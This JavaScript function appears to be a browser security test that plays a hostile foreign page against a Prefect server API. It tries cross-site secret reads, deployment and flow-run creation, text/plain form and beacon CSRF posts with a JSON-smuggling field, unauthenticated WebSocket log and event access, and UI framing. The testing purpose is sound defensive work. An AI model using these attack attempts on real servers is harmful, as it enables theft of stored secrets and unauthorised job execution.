// The attacks of a foreign page on the Prefect server at `api`. Returns the outcome of each attempt by name.
async ({ api, secret }) => {
  const outcomes = {};
  const sockets = api.replace("http", "ws");
  const attempt = async (name, act) => {
    const late = new Promise((resolve) => setTimeout(() => resolve("no answer"), 6000));
    try { outcomes[name] = await Promise.race([act(), late]); } catch (error) { outcomes[name] = `blocked: ${error.message}`; }
  };
  const json = { "content-type": "application/json" };
  const post = (path, body, headers = json, more = {}) =>
    fetch(api + path, { method: "POST", headers, body: JSON.stringify(body), ...more });

  await attempt("read secrets", async () => {
    const answer = await post("/block_documents/filter", { include_secrets: true });
    return (await answer.text()).includes(secret) ? "SUCCEEDED" : `answered ${answer.status}`;
  });
  await attempt("create a deployment and a run", async () => {
    const flow = await (await post("/flows/", { name: "evil-json" })).json();
    const body = { name: "evil", flow_id: flow.id, work_pool_name: "dailies", entrypoint: "x.py:y", job_variables: { command: "true" } };
    const deployment = await (await post("/deployments/", body)).json();
    const run = await post(`/deployments/${deployment.id}/create_flow_run`, { state: { type: "SCHEDULED" } });
    return run.ok ? "SUCCEEDED" : `answered ${run.status}`;
  });
  await attempt("post as text", async () => {
    await fetch(api + "/flows/", { method: "POST", mode: "no-cors", headers: { "content-type": "text/plain" }, body: '{"name":"evil-text"}' });
    return "sent";
  });
  await attempt("post without a type", async () => {
    await fetch(api + "/flows/", { method: "POST", mode: "no-cors", body: new Blob(['{"name":"evil-blob"}']) });
    return "sent";
  });
  await attempt("beacon", async () => {
    navigator.sendBeacon(api + "/flows/", new Blob(['{"name":"evil-beacon"}']));
    return "sent";
  });
  await attempt("form", async () => {
    const frame = document.createElement("iframe");
    frame.name = "target";
    document.body.append(frame);
    const form = document.createElement("form");
    Object.assign(form, { method: "POST", enctype: "text/plain", target: "target", action: api + "/flows/" });
    const input = document.createElement("input");
    Object.assign(input, { name: '{"name":"evil-form","labels":{"a":"', value: '"}}' });
    form.append(input);
    document.body.append(form);
    const loaded = new Promise((resolve) => { frame.onload = resolve; });
    form.submit();
    await loaded;
    return "sent";
  });
  await attempt("get a CSRF token", async () => {
    const answer = await fetch(api + "/csrf-token?client=evil");
    return answer.ok ? "SUCCEEDED" : `answered ${answer.status}`;
  });
  const socket = (path, messages) => new Promise((resolve) => {
    const open = new WebSocket(sockets + path, "prefect");
    let received = 0;
    open.onopen = () => messages.forEach((message) => open.send(JSON.stringify(message)));
    open.onmessage = (message) => { if (!message.data.includes("auth_")) received += 1; };
    open.onclose = (event) => resolve(received ? "SUCCEEDED" : `closed ${event.code}`);
    setTimeout(() => { open.close(); resolve(received ? "SUCCEEDED" : "heard nothing"); }, 2500);
  });
  const day = 86400000;
  const since = { since: new Date(Date.now() - day).toISOString(), until: new Date(Date.now() + day).toISOString() };
  await attempt("read events", () =>
    socket("/events/out", [{ type: "auth", token: null }, { type: "filter", filter: { occurred: since } }]));
  await attempt("read logs", () => socket("/logs/out", [{ type: "auth", token: null }, { type: "filter", filter: {} }]));
  await attempt("send an event", () => socket("/events/in", [{ type: "auth", token: null }, {
    occurred: new Date().toISOString(), event: "evil.event", resource: { "prefect.resource.id": "evil.1" },
    payload: {}, id: "11111111-1111-4111-8111-111111111111", related: [], follows: null,
  }]));
  await attempt("frame the UI", async () => {
    const frame = document.createElement("iframe");
    frame.src = api.replace("/api", "/");
    const loaded = new Promise((resolve) => { frame.onload = resolve; });
    document.body.append(frame);
    await loaded;
    return "loaded"; // the test asks the browser which document this frame shows
  });
  return outcomes;
}
